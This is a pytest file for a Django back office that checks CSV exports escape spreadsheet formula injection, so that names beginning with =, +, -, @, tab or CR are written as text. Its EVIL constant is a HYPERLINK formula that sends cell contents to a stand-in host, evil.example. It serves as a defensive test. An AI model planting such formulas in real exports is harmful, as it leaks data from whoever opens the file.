"""Issue 12.8: a CSV a finance officer opens in a spreadsheet never carries a live formula.

A participant, school or adjustment named `=HYPERLINK(...)` (or starting `+`, `-`, `@`, tab, CR)
reaches the back office's CSVs as text (a leading apostrophe); plain numbers stay numbers. The
API's CSVs are the contract's and are left as it defines them."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.urls import reverse

from ecf import clock
from ecf.spreadsheet import spreadsheet_safe
from tests.factories import DeclarationFactory, enrolled_participant
from tests.test_back_office import finance_client, finance_user  # noqa: F401 (fixtures)

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-119.40", "-119.40"),  # a negative amount is a number, not a formula
        ("119.40", "119.40"),
        ("Ann O'Neill", "Ann O'Neill"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_evaluate_are_written_as_text(value, written):
    assert spreadsheet_safe(value) == written


def test_a_participant_named_like_a_formula_reaches_the_assurance_csv_as_text(finance_client):  # noqa: F811
    with clock.frozen(datetime(2025, 1, 10, 12, tzinfo=UTC)):
        ect = enrolled_participant()
        ect.participant.full_name = EVIL
        ect.participant.save()
        declaration = DeclarationFactory(eligible=True, enrolment=ect.enrolment)
        url = reverse("admin:statements_statement_assurance_csv", args=[declaration.statement.pk])
        body = b"".join(finance_client.get(url).streaming_content).decode()

    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows[0]["Participant Name"] == "'" + EVIL
    assert rows[0]["Output Amount"] == "0.00"
